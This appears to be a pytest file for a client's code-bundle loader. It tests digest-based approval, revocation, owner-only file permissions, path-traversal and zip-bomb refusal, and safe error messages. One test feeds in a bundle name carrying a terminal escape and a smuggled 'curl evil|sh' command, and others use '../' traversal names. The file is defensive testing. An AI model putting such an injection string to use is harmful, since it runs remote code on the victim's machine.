"""Only the very bytes that the owner approved are run, and they stay in their folder."""

from __future__ import annotations

import hashlib
import io
import stat
import zipfile
from pathlib import Path

import pytest

from client.node import bundles as module
from client.node.approvals import approve, revoke
from client.node.bundles import SIZE_LIMIT, approved_bundle, unpack
from client.node.home import SiteHome
from shared.errors import SiteError
from shared.files import write_private


def archive(**files: bytes) -> tuple[str, bytes]:
    """The digest and the bytes of a bundle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, content in files.items():
            bundle.writestr(name, content)
    content = buffer.getvalue()
    return hashlib.sha256(content).hexdigest(), content


DIGEST, CONTENT = archive(**{"client/app.py": b"app = 1\n", "pyproject.toml": b""})


def never() -> bytes:
    raise AssertionError("asked for the bundle")


def test_what_is_not_approved_is_not_even_fetched(made_home: SiteHome) -> None:
    with pytest.raises(SiteError) as caught:
        approved_bundle(made_home, DIGEST, never)
    assert f"fedthaw site approve FOLDER {DIGEST}" in str(caught.value)
    assert DIGEST in caught.value.shareable
    assert "/" not in caught.value.shareable
    assert not made_home.bundles.exists()


@pytest.mark.parametrize(
    "sent", [CONTENT + b" ", CONTENT[:-1], b"", bytes(SIZE_LIMIT + 1)], ids=len
)
def test_other_bytes_than_the_approved_ones_are_refused(made_home: SiteHome, sent: bytes) -> None:
    approve(made_home, DIGEST)
    with pytest.raises(SiteError, match="another bundle") as caught:
        approved_bundle(made_home, DIGEST, lambda: sent)
    assert "/" not in caught.value.shareable
    assert not made_home.bundles.exists()


def test_a_bundle_that_is_too_large_is_refused_though_approved(made_home: SiteHome) -> None:
    sent = bytes(SIZE_LIMIT + 1)
    digest = hashlib.sha256(sent).hexdigest()
    approve(made_home, digest)
    with pytest.raises(SiteError):
        approved_bundle(made_home, digest, lambda: sent)


def test_an_approved_bundle_is_fetched_once(made_home: SiteHome) -> None:
    approve(made_home, DIGEST)
    assert approved_bundle(made_home, DIGEST, lambda: CONTENT) == CONTENT
    assert approved_bundle(made_home, DIGEST, never) == CONTENT


def test_a_kept_bundle_that_was_altered_is_fetched_anew(made_home: SiteHome) -> None:
    approve(made_home, DIGEST)
    approved_bundle(made_home, DIGEST, lambda: CONTENT)
    (made_home.bundles / f"{DIGEST}.fab").write_bytes(b"altered")
    assert approved_bundle(made_home, DIGEST, lambda: CONTENT) == CONTENT
    assert approved_bundle(made_home, DIGEST, never) == CONTENT


def test_a_revoked_bundle_is_refused_although_it_is_kept(made_home: SiteHome) -> None:
    approve(made_home, DIGEST)
    approved_bundle(made_home, DIGEST, lambda: CONTENT)
    revoke(made_home, DIGEST)
    with pytest.raises(SiteError, match="not approved"):
        approved_bundle(made_home, DIGEST, never)


def test_a_damaged_list_of_approvals_lets_nothing_run(made_home: SiteHome) -> None:
    approve(made_home, DIGEST)
    made_home.approved.write_text("[")
    with pytest.raises(SiteError, match="damaged"):
        approved_bundle(made_home, DIGEST, lambda: CONTENT)


def test_a_bundle_is_unpacked_for_its_owner_alone(made_home: SiteHome) -> None:
    folder = unpack(made_home, DIGEST, CONTENT)
    assert (folder / "client" / "app.py").read_bytes() == b"app = 1\n"
    for path in (folder, *folder.rglob("*")):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600)
    # What was changed there since does not run.
    (folder / "client" / "app.py").write_text("app = evil\n")
    (folder / "client" / "more.py").touch()
    assert unpack(made_home, DIGEST, CONTENT) == folder
    assert (folder / "client" / "app.py").read_bytes() == b"app = 1\n"
    assert not (folder / "client" / "more.py").exists()


def test_a_name_that_is_no_digest_is_not_shown(made_home: SiteHome) -> None:
    name = "aa\x1b[2J; curl evil|sh #"
    with pytest.raises(SiteError) as caught:
        approved_bundle(made_home, name, lambda: CONTENT)
    assert "curl" not in str(caught.value) + caught.value.shareable


def test_a_folder_that_was_left_half_unpacked_is_completed(
    made_home: SiteHome, monkeypatch: pytest.MonkeyPatch
) -> None:
    written: list[str] = []

    def killed(path: Path, data: bytes) -> None:
        if written:
            raise KeyboardInterrupt
        written.append(str(path))
        write_private(path, data)

    with monkeypatch.context() as patch:
        patch.setattr(module, "write_private", killed)
        with pytest.raises(KeyboardInterrupt):
            unpack(made_home, DIGEST, CONTENT)
    folder = unpack(made_home, DIGEST, CONTENT)
    assert (folder / "client" / "app.py").exists()
    assert (folder / "pyproject.toml").exists()


@pytest.mark.parametrize("name", ["../x.py", "client/../../x.py", "/x.py", "..", "a/.."])
def test_no_file_leaves_the_bundles_folder(made_home: SiteHome, name: str) -> None:
    digest, content = archive(**{name: b"evil", "ok.py": b""})
    before = set(made_home.path.parent.rglob("*"))
    with pytest.raises(SiteError, match="outside its folder") as caught:
        unpack(made_home, digest, content)
    assert "/" not in caught.value.shareable.replace("`fedthaw site check`", "")
    assert set(made_home.path.parent.rglob("*")) == before


def test_a_bundle_does_not_swell(made_home: SiteHome) -> None:
    digest, content = archive(**{f"{n}.py": bytes(13 * 2**20) for n in range(4)})
    assert len(content) < 2**20
    with pytest.raises(SiteError, match="unpacks to more than"):
        unpack(made_home, digest, content)
    assert not (made_home.bundles / digest).exists()


def test_a_damaged_bundle_is_a_sentence(made_home: SiteHome) -> None:
    digest, content = archive(**{"client/app.py": b"app = 1\n"})
    for damaged in (content[:-30], content[:46] + b"!!" + content[48:], b"no archive"):
        with pytest.raises(SiteError, match="is damaged"):
            unpack(made_home, digest, damaged)
